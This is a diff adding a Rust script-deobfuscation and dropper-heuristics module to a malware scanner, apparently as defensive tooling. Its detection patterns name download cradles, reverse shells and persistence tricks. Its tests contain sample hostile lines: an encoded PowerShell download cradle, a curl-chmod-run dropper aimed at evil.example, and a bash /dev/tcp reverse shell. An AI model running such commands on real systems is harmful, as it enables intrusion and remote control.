@@ -0,0 +1,566 @@
+//! Script deobfuscation and heuristics.
+//!
+//! Droppers hide their payload behind layers of encoding. Every layer that
+//! can be peeled (base64 blobs, PowerShell `-EncodedCommand`, char-code
+//! arrays, split string literals and escape sequences) is recorded and
+//! peeled again, up to [`MAX_DEPTH`] levels deep. The heuristics look at the
+//! script and all of its layers together, so a download cradle hidden under
+//! three encodings still counts.
+
+use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
+use base64::engine::DecodePaddingMode;
+use base64::Engine;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::sync::OnceLock;
+
+use crate::archive::ArchiveKind;
+use crate::filetype;
+use crate::signatures::Detection;
+
+const MAX_DEPTH: usize = 4;
+const MAX_LAYERS: usize = 32;
+/// Only this much of a script is analyzed.
+const MAX_SCRIPT_SIZE: usize = 8 * 1024 * 1024;
+/// Decoded text kept on a layer for display.
+const PREVIEW_LEN: usize = 64 * 1024;
+const MIN_BASE64_LEN: usize = 40;
+/// How far apart the parts of one heuristic may be.
+const RULE_WINDOW: usize = 256;
+const MAX_URLS: usize = 200;
+
+/// Base64 as scripts write it: standard alphabet, padding optional.
+const BASE64: GeneralPurpose = GeneralPurpose::new(
+    &base64::alphabet::STANDARD,
+    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
+);
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+pub enum ScriptLanguage {
+    PowerShell,
+    JavaScript,
+    VBScript,
+    Shell,
+    Python,
+    Batch,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct DecodedLayer {
+    /// How the layer was decoded: `normalized`, `encoded-command`, `base64`
+    /// or `char-codes`.
+    pub method: String,
+    /// 1 for layers decoded from the script itself, 2 for layers decoded
+    /// from those, and so on.
+    pub depth: usize,
+    pub size: usize,
+    pub file_type: String,
+    /// The decoded text, truncated; `None` for binary payloads.
+    pub content: Option<String>,
+    #[serde(skip)]
+    pub data: Vec<u8>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ScriptAnalysis {
+    pub language: ScriptLanguage,
+    pub layers: Vec<DecodedLayer>,
+    pub findings: Vec<Detection>,
+    /// Links in the script or its decoded layers.
+    pub urls: Vec<String>,
+}
+
+/// One heuristic: every pattern has to match, close together, in the script
+/// or one of its layers.
+struct Rule {
+    name: &'static str,
+    description: &'static str,
+    patterns: &'static [&'static str],
+}
+
+const DOWNLOAD: &str = r"downloadstring|downloadfile|downloaddata|invoke-webrequest|\biwr\b|invoke-restmethod|\birm\b|start-bitstransfer|net\.webclient|xmlhttp|winhttprequest|urlretrieve\(|urlopen\(|requests\.get\(|\b(?:curl|wget)[ \t]+\S|bitsadmin\b.*/transfer|certutil\b.*-urlcache";
+const EXECUTE: &str = r#"invoke-expression|\biex\b\s*[(\$]|\|\s*iex\b|start-process|\|\s*(?:ba|da|z)?sh\b|chmod\s+\+x|wscript\.shell|shell\.application|\.run\s*\(\s*["']?(?:cmd|powershell|wscript|cscript|mshta|rundll32|%)|shellexecute|\beval\s*\(|\bexec\s*\(|subprocess\.\w+\(|os\.system\(|os\.popen\(|adodb\.stream|rundll32|regsvr32|mshta"#;
+
+const RULES: &[Rule] = &[
+    Rule {
+        name: "Heuristic.Script.DownloadExecute",
+        description: "Downloads a payload and runs it",
+        patterns: &[DOWNLOAD, EXECUTE],
+    },
+    Rule {
+        name: "Heuristic.Script.ReverseShell",
+        description: "Connects a shell to a remote host",
+        patterns: &[r"/dev/(?:tcp|udp)/|\bnc(?:at)?\b[^\n]*\s-[ce]\s|mkfifo[^\n]*\bnc\b|\bsocat\b[^\n]*\bexec:"],
+    },
+    Rule {
+        name: "Heuristic.Script.ReverseShell",
+        description: "Connects a shell to a remote host",
+        patterns: &[r"socket\.socket\(", r"\.connect\(", r"dup2|pty\.spawn"],
+    },
+    Rule {
+        name: "Heuristic.Script.ReverseShell",
+        description: "Connects a shell to a remote host",
+        patterns: &[r"net\.sockets\.tcpclient", r"getstream\(\)", r"invoke-expression|\biex\b"],
+    },
+    Rule {
+        name: "Heuristic.Script.ReverseShell",
+        description: "Connects a shell to a remote host",
+        patterns: &[r"child_process", r"net\.socket\(|\.connect\(\d+"],
+    },
+    Rule {
+        name: "Heuristic.Script.Persistence",
+        description: "Makes itself run at logon, on a schedule or as a service",
+        patterns: &[r"schtasks[^\n]*/create|register-scheduledtask|new-scheduledtask|currentversion\\+run|\\startup\\|start menu\\programs\\startup|crontab\s|/etc/cron|>>\s*\S*\.(?:bashrc|bash_profile|profile|zshrc)\b|\.config/autostart|launchagents|launchdaemons|new-service|\bsc(?:\.exe)?\s+create|__eventfilter"],
+    },
+    Rule {
+        name: "Heuristic.Script.EncodedCommand",
+        description: "Runs a base64 encoded PowerShell command",
+        patterns: &[r"(?:powershell|pwsh)[^\n]*\s-e(?:nc?|ncodedcommand|c)?\s+[a-z0-9+/=]{8,}"],
+    },
+];
+
+/// The script language of a text file, from its extension or, for files
+/// without one, its content.
+pub fn language(extension: &str, kind: &str, data: &[u8]) -> Option<ScriptLanguage> {
+    if !matches!(kind, "script" | "text" | "html" | "svg") {
+        return None;
+    }
+    let by_extension = match extension.to_ascii_lowercase().as_str() {
+        "ps1" | "psm1" | "psd1" => Some(ScriptLanguage::PowerShell),
+        "js" | "jse" | "mjs" | "cjs" => Some(ScriptLanguage::JavaScript),
+        "vbs" | "vbe" | "vba" => Some(ScriptLanguage::VBScript),
+        "sh" | "bash" | "zsh" | "ksh" => Some(ScriptLanguage::Shell),
+        "py" | "pyw" => Some(ScriptLanguage::Python),
+        "bat" | "cmd" => Some(ScriptLanguage::Batch),
+        _ => None,
+    };
+    if by_extension.is_some() {
+        return by_extension;
+    }
+
+    let head = String::from_utf8_lossy(&data[..data.len().min(4096)]).to_ascii_lowercase();
+    match kind {
+        "html" | "svg" if head.contains("vbscript") => Some(ScriptLanguage::VBScript),
+        "html" | "svg" => Some(ScriptLanguage::JavaScript),
+        "script" => Some(shebang_language(head.lines().next().unwrap_or(""))),
+        _ if extension.is_empty() || extension.eq_ignore_ascii_case("hta") || extension.eq_ignore_ascii_case("wsf") => {
+            sniff_language(&head)
+        }
+        _ => None,
+    }
+}
+
+fn shebang_language(line: &str) -> ScriptLanguage {
+    if line.contains("python") {
+        ScriptLanguage::Python
+    } else if line.contains("node") {
+        ScriptLanguage::JavaScript
+    } else if line.contains("pwsh") || line.contains("powershell") {
+        ScriptLanguage::PowerShell
+    } else {
+        ScriptLanguage::Shell
+    }
+}
+
+/// Scores keywords typical of each language; two hits are needed so prose
+/// isn't taken for code.
+fn sniff_language(head: &str) -> Option<ScriptLanguage> {
+    const KEYWORDS: [(ScriptLanguage, &[&str]); 5] = [
+        (ScriptLanguage::PowerShell, &["invoke-expression", "new-object", "-encodedcommand", "$env:", "[system.", "write-host", "param("]),
+        (ScriptLanguage::JavaScript, &["function(", "function ", "var ", "document.", "activexobject", "fromcharcode", "wscript."]),
+        (ScriptLanguage::VBScript, &["dim ", "createobject(", "end sub", "end function", "on error resume next", "wscript."]),
+        (ScriptLanguage::Python, &["import ", "def ", "__name__", "print("]),
+        (ScriptLanguage::Batch, &["@echo off", "%~dp0", "goto ", "setlocal"]),
+    ];
+    KEYWORDS
+        .iter()
+        .map(|(language, words)| (*language, words.iter().filter(|w| head.contains(*w)).count()))
+        .filter(|(_, score)| *score >= 2)
+        .max_by_key(|(_, score)| *score)
+        .map(|(language, _)| language)
+}
+
+pub fn analyze(data: &[u8], language: ScriptLanguage) -> ScriptAnalysis {
+    let data = &data[..data.len().min(MAX_SCRIPT_SIZE)];
+    let mut layers = Vec::new();
+    peel(data, 1, &mut layers);
+
+    let mut text = decode_text(data);
+    for layer in &layers {
+        if let Some(content) = &layer.content {
+            text.push('\n');
+            text.push_str(content);
+        }
+    }
+    let urls = extract_urls(&text);
+    text.make_ascii_lowercase();
+
+    let mut findings: Vec<Detection> = Vec::new();
+    for rule in RULES {
+        if findings.iter().any(|f| f.name == rule.name) {
+            continue;
+        }
+        if rule_matches(rule, &text) {
+            findings.push(Detection::heuristic(rule.name, "script", rule.description));
+        }
+    }
+    let deepest = layers.iter().filter(|l| l.method != "normalized").map(|l| l.depth).max().unwrap_or(0);
+    if deepest >= 2 {
+        findings.push(Detection::heuristic(
+            "Heuristic.Script.Obfuscated",
+            "script",
+            format!("Payload hidden under {} layers of encoding", deepest),
+        ));
+    }
+
+    // Almost every program joins a string or escapes a character somewhere,
+    // the normalized text is only worth showing when it led somewhere
+    if findings.is_empty() && layers.iter().all(|l| l.method == "normalized") {
+        layers.clear();
+    }
+    ScriptAnalysis { language, layers, findings, urls }
+}
+
+fn extract_urls(text: &str) -> Vec<String> {
+    static PATTERN: OnceLock<Regex> = OnceLock::new();
+    let pattern = PATTERN.get_or_init(|| Regex::new(r#"(?i)\bhttps?://[^\s<>"'`()\[\]{}]+"#).expect("url pattern is valid"));
+    let mut urls = Vec::new();
+    for m in pattern.find_iter(text) {
+        let url = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']).to_string();
+        if urls.len() < MAX_URLS && !urls.contains(&url) {
+            urls.push(url);
+        }
+    }
+    urls
+}
+
+/// Whether every pattern of `rule` matches within [`RULE_WINDOW`] bytes of
+/// a match of its first pattern. Large programs mention downloads and
+/// processes in unrelated places; droppers do both in one statement.
+fn rule_matches(rule: &Rule, text: &str) -> bool {
+    let (first, rest) = rule.patterns.split_first().expect("rules have patterns");
+    pattern(first).find_iter(text).any(|m| {
+        let start = floor_char_boundary(text, m.start().saturating_sub(RULE_WINDOW));
+        let end = floor_char_boundary(text, m.end().saturating_add(RULE_WINDOW).min(text.len()));
+        rest.iter().all(|p| pattern(p).is_match(&text[start..end]))
+    })
+}
+
+fn floor_char_boundary(text: &str, mut index: usize) -> usize {
+    while !text.is_char_boundary(index) {
+        index -= 1;
+    }
+    index
+}
+
+/// Compiled patterns, shared by all scans.
+fn pattern(source: &'static str) -> &'static Regex {
+    static PATTERNS: OnceLock<Vec<(&'static str, Regex)>> = OnceLock::new();
+    let patterns = PATTERNS.get_or_init(|| {
+        RULES
+            .iter()
+            .flat_map(|r| r.patterns.iter())
+            .map(|p| (*p, Regex::new(p).expect("script heuristic patterns are valid")))
+            .collect()
+    });
+    &patterns.iter().find(|(p, _)| *p == source).expect("pattern belongs to a rule").1
+}
+
+/// Decodes every layer found in `data` and recurses into the textual ones.
+fn peel(data: &[u8], depth: usize, layers: &mut Vec<DecodedLayer>) {
+    if depth > MAX_DEPTH {
+        return;
+    }
+    let text = decode_text(data);
+    let normalized = normalize(&text);
+    let mut decoded = Vec::new();
+    if normalized != text {
+        decoded.push(("normalized", normalized.clone().into_bytes()));
+    }
+    decoded.extend(encoded_commands(&normalized).into_iter().map(|d| ("encoded-command", d)));
+    decoded.extend(base64_blobs(&normalized).into_iter().map(|d| ("base64", d)));
+    if let Some(chars) = char_codes(&normalized) {
+        decoded.push(("char-codes", chars.into_bytes()));
+    }
+
+    for (method, bytes) in decoded {
+        if layers.len() >= MAX_LAYERS {
+            return;
+        }
+        if layers.iter().any(|l| l.data == bytes) {
+            continue;
+        }
+        let file_type = filetype::identify(&bytes);
+        let content = is_text(&bytes).then(|| decode_text(&bytes).chars().take(PREVIEW_LEN).collect());
+        let textual = content.is_some();
+        layers.push(DecodedLayer {
+            method: method.to_string(),
+            depth,
+            size: bytes.len(),
+            file_type: file_type.kind,
+            content,
+            data: bytes.clone(),
+        });
+        // A normalized script is peeled as if it were the original
+        if method == "normalized" {
+            continue;
+        }
+        if textual {
+            peel(&bytes, depth + 1, layers);
+        }
+    }
+}
+
+/// Text from script bytes, which PowerShell in particular often writes as
+/// UTF-16.
+fn decode_text(data: &[u8]) -> String {
+    let utf16 = |bytes: &[u8], le: bool| {
+        let units: Vec<u16> = bytes
+            .chunks_exact(2)
+            .map(|c| if le { u16::from_le_bytes([c[0], c[1]]) } else { u16::from_be_bytes([c[0], c[1]]) })
+            .collect();
+        String::from_utf16_lossy(&units)
+    };
+    if let Some(rest) = data.strip_prefix(&[0xff, 0xfe]) {
+        return utf16(rest, true);
+    }
+    if let Some(rest) = data.strip_prefix(&[0xfe, 0xff]) {
+        return utf16(rest, false);
+    }
+    let sample = &data[..data.len().min(64)];
+    if sample.len() >= 4 && sample.iter().skip(1).step_by(2).all(|&b| b == 0) {
+        return utf16(data, true);
+    }
+    String::from_utf8_lossy(data).to_string()
+}
+
+fn is_text(data: &[u8]) -> bool {
+    let text = decode_text(data);
+    let total = text.chars().count();
+    if total < 8 {
+        return false;
+    }
+    let printable = text.chars().filter(|c| !c.is_control() || c.is_whitespace()).count();
+    printable * 100 >= total * 95 && !text.contains('\u{fffd}')
+}
+
+/// Payloads worth a layer even though they aren't text.
+fn is_interesting_binary(data: &[u8]) -> bool {
+    let file_type = filetype::identify(data);
+    file_type.is_executable()
+        || ArchiveKind::from_file_kind(&file_type.kind).is_some()
+        || matches!(file_type.kind.as_str(), "ole2" | "rtf" | "7z" | "rar" | "cab")
+}
+
+/// Undoes the cheap tricks: split string literals, escape sequences,
+/// PowerShell backticks and batch carets.
+fn normalize(text: &str) -> String {
+    static PATTERNS: OnceLock<[Regex; 5]> = OnceLock::new();
+    let [double, single, hex, unicode, tick] = PATTERNS.get_or_init(|| {
+        [
+            Regex::new(r#""([^"\n]*)"\s*[+&]\s*"([^"\n]*)""#).expect("valid"),
+            Regex::new(r"'([^'\n]*)'\s*[+&]\s*'([^'\n]*)'").expect("valid"),
+            Regex::new(r"\\x([0-9A-Fa-f]{2})").expect("valid"),
+            Regex::new(r"\\u([0-9A-Fa-f]{4})|%u([0-9A-Fa-f]{4})").expect("valid"),
+            // Backticks and carets inside a word are escapes of ordinary letters
+            Regex::new(r"([A-Za-z])[`^]+([A-Za-z])").expect("valid"),
+        ]
+    });
+
+    let mut text = text.to_string();
+    for _ in 0..1000 {
+        let joined = single.replace_all(&double.replace_all(&text, "\"$1$2\""), "'$1$2'").to_string();
+        if joined == text {
+            break;
+        }
+        text = joined;
+    }
+    let char_from = |hex: &str| u32::from_str_radix(hex, 16).ok().and_then(char::from_u32).map(String::from);
+    let text = hex.replace_all(&text, |c: &regex::Captures| char_from(&c[1]).unwrap_or_else(|| c[0].to_string()));
+    let text = unicode.replace_all(&text, |c: &regex::Captures| {
+        let digits = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
+        char_from(digits).unwrap_or_else(|| c[0].to_string())
+    });
+    let mut text = text.to_string();
+    for _ in 0..1000 {
+        let joined = tick.replace_all(&text, "$1$2").to_string();
+        if joined == text {
+            break;
+        }
+        text = joined;
+    }
+    text
+}
+
+/// Arguments of `powershell -EncodedCommand`, which are base64 UTF-16LE.
+fn encoded_commands(text: &str) -> Vec<Vec<u8>> {
+    static PATTERN: OnceLock<Regex> = OnceLock::new();
+    let pattern = PATTERN.get_or_init(|| {
+        Regex::new(r#"(?i)\s-e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc\w*)?\s+["']?([A-Za-z0-9+/]{8,}={0,2})"#)
+            .expect("encoded command pattern is valid")
+    });
+    pattern
+        .captures_iter(text)
+        .filter_map(|c| BASE64.decode(&c[1]).ok())
+        .filter(|d| is_text(d))
+        .map(|d| decode_text(&d).into_bytes())
+        .collect()
+}
+
+/// Long base64 runs that decode to text or to a recognizable file.
+fn base64_blobs(text: &str) -> Vec<Vec<u8>> {
+    static PATTERN: OnceLock<Regex> = OnceLock::new();
+    let pattern = PATTERN.get_or_init(|| Regex::new(r"[A-Za-z0-9+/]{40,}={0,2}").expect("base64 pattern is valid"));
+    pattern
+        .find_iter(text)
+        .filter(|m| m.len() >= MIN_BASE64_LEN)
+        .filter_map(|m| BASE64.decode(m.as_str()).ok())
+        .filter_map(|d| {
+            if is_text(&d) {
+                Some(decode_text(&d).into_bytes())
+            } else {
+                is_interesting_binary(&d).then_some(d)
+            }
+        })
+        .take(MAX_LAYERS)
+        .collect()
+}
+
+/// Strings built from character codes: `String.fromCharCode(...)`,
+/// `[char[]](...)`, and chains of `[char]N`, `Chr(N)` or `chr(N)`.
+fn char_codes(text: &str) -> Option<String> {
+    static PATTERNS: OnceLock<[Regex; 3]> = OnceLock::new();
+    let [list, chain, number] = PATTERNS.get_or_init(|| {
+        [
+            Regex::new(r"(?i)(?:fromcharcode|\[char\[\]\])\s*\(\s*((?:\d{1,5}\s*,\s*){3,}\d{1,5})\s*\)").expect("valid"),
+            Regex::new(r"(?i)(?:(?:\[char\]\s*|chrw?\$?\s*\(\s*)\d{1,5}\s*\)?\s*[+&,]\s*){3,}(?:\[char\]\s*|chrw?\$?\s*\(\s*)\d{1,5}")
+                .expect("valid"),
+            Regex::new(r"\d{1,5}").expect("valid"),
+        ]
+    });
+
+    let decode = |s: &str| -> String {
+        number
+            .find_iter(s)
+            .filter_map(|n| n.as_str().parse::<u32>().ok().and_then(char::from_u32))
+            .collect()
+    };
+    let decoded: Vec<String> = list
+        .captures_iter(text)
+        .map(|c| decode(&c[1]))
+        .chain(chain.find_iter(text).map(|m| decode(m.as_str())))
+        .collect();
+    (!decoded.is_empty()).then(|| decoded.join("\n"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn encode(text: &str) -> String {
+        BASE64.encode(text)
+    }
+
+    fn names(analysis: &ScriptAnalysis) -> Vec<&str> {
+        analysis.findings.iter().map(|f| f.name.as_str()).collect()
+    }
+
+    #[test]
+    fn peels_nested_encodings() {
+        let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
+        let utf16: Vec<u8> = cradle.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let command = format!("powershell -nop -w hidden -enc {}", BASE64.encode(utf16));
+        let script = format!("var s = \"{}\";\neval(atob(s));\n", encode(&command));
+
+        let analysis = analyze(script.as_bytes(), ScriptLanguage::JavaScript);
+        let layers: Vec<(&str, usize, Option<&str>)> =
+            analysis.layers.iter().map(|l| (l.method.as_str(), l.depth, l.content.as_deref())).collect();
+        assert_eq!(layers, [("base64", 1, Some(command.as_str())), ("encoded-command", 2, Some(cradle))]);
+        assert_eq!(
+            names(&analysis),
+            ["Heuristic.Script.DownloadExecute", "Heuristic.Script.EncodedCommand", "Heuristic.Script.Obfuscated"]
+        );
+        assert_eq!(analysis.urls, ["http://evil.example/a.ps1"]);
+    }
+
+    #[test]
+    fn peeling_stops_at_the_depth_limit() {
+        let mut script = "echo this is the innermost layer of the onion".to_string();
+        for _ in 0..MAX_DEPTH + 2 {
+            script = encode(&script);
+        }
+
+        let analysis = analyze(script.as_bytes(), ScriptLanguage::Shell);
+        let depths: Vec<usize> = analysis.layers.iter().map(|l| l.depth).collect();
+        assert_eq!(depths, (1..=MAX_DEPTH).collect::<Vec<_>>());
+        assert!(analysis.layers.iter().all(|l| l.method == "base64"));
+        assert_eq!(names(&analysis), ["Heuristic.Script.Obfuscated"]);
+    }
+
+    #[test]
+    fn decodes_character_codes() {
+        let script = "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41));";
+        assert_eq!(char_codes(script).as_deref(), Some("alert(1)"));
+        let script = "x = Chr(87) & Chr(83) & Chr(99) & Chr(114)\n$y = [char]73+[char]69+[char]88+[char]32";
+        assert_eq!(char_codes(script).as_deref(), Some("WScr\nIEX "));
+        assert_eq!(char_codes("Chr(87) & Chr(83)"), None);
+
+        let analysis = analyze(b"eval(String.fromCharCode(97,108,101,114,116,40,49,41))", ScriptLanguage::JavaScript);
+        assert_eq!(analysis.layers[0].method, "char-codes");
+        assert_eq!(analysis.layers[0].content.as_deref(), Some("alert(1)"));
+    }
+
+    #[test]
+    fn normalizes_cheap_tricks() {
+        assert_eq!(normalize(r#"x = "Down" + "load" + "String""#), r#"x = "DownloadString""#);
+        assert_eq!(normalize("'Invoke-' & 'Expression'"), "'Invoke-Expression'");
+        assert_eq!(normalize(r"\x68\x74tp %u0041B"), "http AB");
+        assert_eq!(normalize("I`E`X (n`ew-obj``ect x); p^o^wer^shell"), "IEX (new-object x); powershell");
+    }
+
+    #[test]
+    fn heuristics_need_their_parts_close_together() {
+        let dropper = b"curl -s http://evil.example/x -o /tmp/x && chmod +x /tmp/x && /tmp/x";
+        let analysis = analyze(dropper, ScriptLanguage::Shell);
+        assert_eq!(names(&analysis), ["Heuristic.Script.DownloadExecute"]);
+        assert_eq!(analysis.urls, ["http://evil.example/x"]);
+
+        let installer = format!(
+            "curl -fsSL https://example.com/tool.tar.gz -o tool.tar.gz\n{}\nchmod +x ./tool/bin/run\n",
+            "# unpack and check the release\n".repeat(20)
+        );
+        let analysis = analyze(installer.as_bytes(), ScriptLanguage::Shell);
+        assert!(analysis.findings.is_empty());
+
+        let analysis = analyze(b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", ScriptLanguage::Shell);
+        assert_eq!(names(&analysis), ["Heuristic.Script.ReverseShell"]);
+    }
+
+    #[test]
+    fn harmless_scripts_keep_no_layers() {
+        let script = br#"var name = "wor" + "ld"; console.log("hello " + name);"#;
+        let analysis = analyze(script, ScriptLanguage::JavaScript);
+        assert!(analysis.findings.is_empty());
+        assert!(analysis.layers.is_empty());
+        assert!(analysis.urls.is_empty());
+    }
+
+    #[test]
+    fn urls_are_trimmed_and_deduplicated() {
+        let urls = extract_urls("See https://example.com/a. Or (http://example.org/b), https://example.com/a!");
+        assert_eq!(urls, ["https://example.com/a", "http://example.org/b"]);
+    }
+
+    #[test]
+    fn detects_the_language() {
+        assert_eq!(language("PS1", "text", b""), Some(ScriptLanguage::PowerShell));
+        assert_eq!(language("js", "pe", b""), None);
+        assert_eq!(language("", "script", b"#!/usr/bin/env python3\n"), Some(ScriptLanguage::Python));
+        assert_eq!(language("", "script", b"#!/bin/sh\n"), Some(ScriptLanguage::Shell));
+        assert_eq!(language("", "text", b"@echo off\nsetlocal\ngoto end\n"), Some(ScriptLanguage::Batch));
+        assert_eq!(language("hta", "html", b"<script language=VBScript>"), Some(ScriptLanguage::VBScript));
+        assert_eq!(language("", "text", b"Dear reader, import this letter."), None);
+        assert_eq!(language("txt", "text", b"@echo off\nsetlocal\n"), None);
+    }
+}